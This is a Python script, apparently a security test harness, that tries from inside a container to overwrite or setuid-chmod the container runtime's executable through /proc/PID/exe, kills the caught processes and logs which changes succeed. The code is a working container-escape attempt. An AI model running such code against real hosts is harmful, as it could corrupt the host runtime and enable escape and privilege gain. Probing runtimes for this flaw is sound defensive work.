"""Tries, from inside a container, to change the program that the container was made with.

    overwrite.py SECONDS

Makes /out/script and /out/link, which both have that program executed, and watches for processes
that run another one than this. Each is stopped and its program opened; once it has ended, so that
no kernel is in the way, it is to be written to. /out/ready is there when it looks;
/out/report says "caught PID", "changed HOW", and at last "done".
"""
import os
import signal
import sys
import time

report = open("/out/report", "w", buffering=1)
own = os.stat("/proc/self/exe").st_ino
spared = {os.getpid(), 1}
end = time.monotonic() + int(sys.argv[1])


def attempt(name, action):
    try:
        action()
    except OSError:
        return
    print("changed", name, file=report)


def write(path, flags):
    fd = os.open(path, flags)
    os.write(fd, b"#!/bin/sh\n")
    os.close(fd)


def attack(fd):
    path = f"/proc/self/fd/{fd}"
    attempt("mode", lambda: os.fchmod(fd, 0o6777))
    attempt("mode by path", lambda: os.chmod(path, 0o6777))
    attempt("bytes", lambda: write(path, os.O_WRONLY))
    attempt("bytes, truncated", lambda: write(path, os.O_WRONLY | os.O_TRUNC))
    attempt("size", lambda: os.truncate(path, 0))
    attempt("name", lambda: os.link(path, "/out/linked", follow_symlinks=True))


def catch(pid):
    fd = os.open(f"/proc/{pid}/exe", os.O_RDONLY)
    if os.fstat(fd).st_ino == own:
        return os.close(fd)
    print("caught", pid, file=report)
    attack(fd)
    os.kill(pid, signal.SIGKILL)
    for _ in range(100):
        if not os.path.exists(f"/proc/{pid}/exe"):
            break
        time.sleep(0.001)
    attack(fd)
    os.close(fd)


with open("/out/script", "w") as script:
    script.write("#!/proc/self/exe\n")
os.chmod("/out/script", 0o755)
os.symlink("/proc/self/exe", "/out/link")
open("/out/ready", "w").close()
while time.monotonic() < end:
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in spared:
            try:
                catch(int(name))
            except OSError:
                pass
print("done", file=report)
